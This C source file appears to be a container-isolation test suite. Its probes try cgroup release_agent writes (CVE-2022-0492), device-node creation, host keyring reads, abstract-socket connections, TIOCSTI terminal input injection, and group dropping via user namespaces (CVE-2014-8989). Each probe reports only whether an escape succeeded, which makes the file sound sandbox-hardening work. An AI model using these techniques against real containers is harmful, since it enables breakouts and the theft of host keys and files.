/* Attacks on what the kernel shares between containers: cgroups, devices, keys, sockets, terminals, groups. */
#include "attack.h"

#include <dirent.h>
#include <grp.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>

/* CVE-2022-0492: release_agent, by the mounts that are there and by one's own. */
ATTACK(mount_cgroup) {
  const char* kinds[] = {"memory", "pids", "devices", "cpu", "rdma", "blkio"};
  for (int round = 0; round < 2; ++round) {
    if (round == 1 && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
      printf("unshare: %s\n", strerror(errno));
      break;
    }
    mkdir("/tmp/cgroup", 0755);
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; ++i) {
      if (mount("cgroup", "/tmp/cgroup", "cgroup", 0, kinds[i]) < 0) {
        printf("mount %s: %s\n", kinds[i], strerror(errno));
        continue;
      }
      const int fd = open("/tmp/cgroup/release_agent", O_WRONLY | O_CLOEXEC);
      if (fd >= 0) return escaped("release_agent of %s opens for writing", kinds[i]);
      printf("mounted %s, release_agent: %s\n", kinds[i], strerror(errno));
      char path[64] = "/tmp/cgroup/escape";
      if (round == 0 && mkdir(path, 0755) == 0) {
        rmdir(path);
        return escaped("made a cgroup in %s", kinds[i]);
      }
      umount2("/tmp/cgroup", MNT_DETACH);
    }
  }
  for (int i = 1; i < argc; ++i) {
    const int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
    if (fd >= 0) return escaped("%s opens for writing", argv[i]);
    printf("%s: %s\n", argv[i], strerror(errno));
  }
  return held("no cgroup could be changed");
}

/* use-node b|c MAJOR MINOR: makes a device node and opens it. */
ATTACK(use_node) {
  if (argc < 4) return broken("arguments");
  const mode_t type = argv[1][0] == 'b' ? S_IFBLK : S_IFCHR;
  unlink("/tmp/node");
  if (mknod("/tmp/node", type | 0666, makedev((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]))) < 0) {
    return held("mknod: %s", strerror(errno));
  }
  const int fd = open("/tmp/node", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0) return escaped("device %s %s:%s opens", argv[1], argv[2], argv[3]);
  return held("mknod works, open: %s", strerror(errno));
}

/* keyring NAME: is the host's key NAME to be found in the session keyring? */
ATTACK(keyring) {
  if (argc < 2) return broken("arguments");
  const long session = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  if (session < 0) return broken("session keyring");
  const long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[1], 0);
  char text[256] = "";
  if (key >= 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) >= 0) return escaped("read the key: %s", text);
  return held("session keyring %lx: %s", session, strerror(errno));
}

/* abstract-socket NAME: connects to a socket in the abstract name space. */
ATTACK(abstract_socket) {
  if (argc < 2) return broken("arguments");
  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return broken("socket");
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  const size_t length = strlen(argv[1]);
  memcpy(address.sun_path + 1, argv[1], length);
  const socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length);
  if (connect(fd, (struct sockaddr*)&address, size) == 0) return escaped("connected");
  return held("connect: %s", strerror(errno));
}

/* push-input: types into the terminal that descriptor 0 is, as if its user did (TIOCSTI). */
ATTACK(push_input) {
  (void)argc;
  (void)argv;
  if (isatty(0) != 1) return broken("no terminal");
  setsid();
  const int taken = ioctl(0, TIOCSCTTY, 0);
  const int saved = errno;
  const char* text = "escape\n";
  for (const char* at = text; *at != '\0'; ++at) {
    if (ioctl(0, TIOCSTI, at) < 0) {
      return held("TIOCSCTTY: %s, TIOCSTI: %s", taken < 0 ? strerror(saved) : "done", strerror(errno));
    }
  }
  return escaped("typed");
}

/* CVE-2014-8989. drop-groups FILE: a group that is refused a file leaves that group by a user namespace. */
ATTACK(drop_groups) {
  if (argc < 2) return broken("arguments");
  if (open(argv[1], O_RDONLY | O_CLOEXEC) >= 0) return broken("the file is open to us anyway");
  const gid_t gid = getegid();
  if (unshare(CLONE_NEWUSER) < 0) return held("unshare: %s", strerror(errno));
  const int map = open("/proc/self/gid_map", O_WRONLY | O_CLOEXEC);
  char text[64];
  snprintf(text, sizeof text, "0 %u 1", gid);
  const ssize_t mapped = write(map, text, strlen(text));
  const int saved = errno;
  if (setgroups(0, NULL) == 0 && open(argv[1], O_RDONLY | O_CLOEXEC) >= 0) return escaped("left the group and read the file");
  return held("gid_map: %s, setgroups: %s", mapped < 0 ? strerror(saved) : "written", strerror(errno));
}
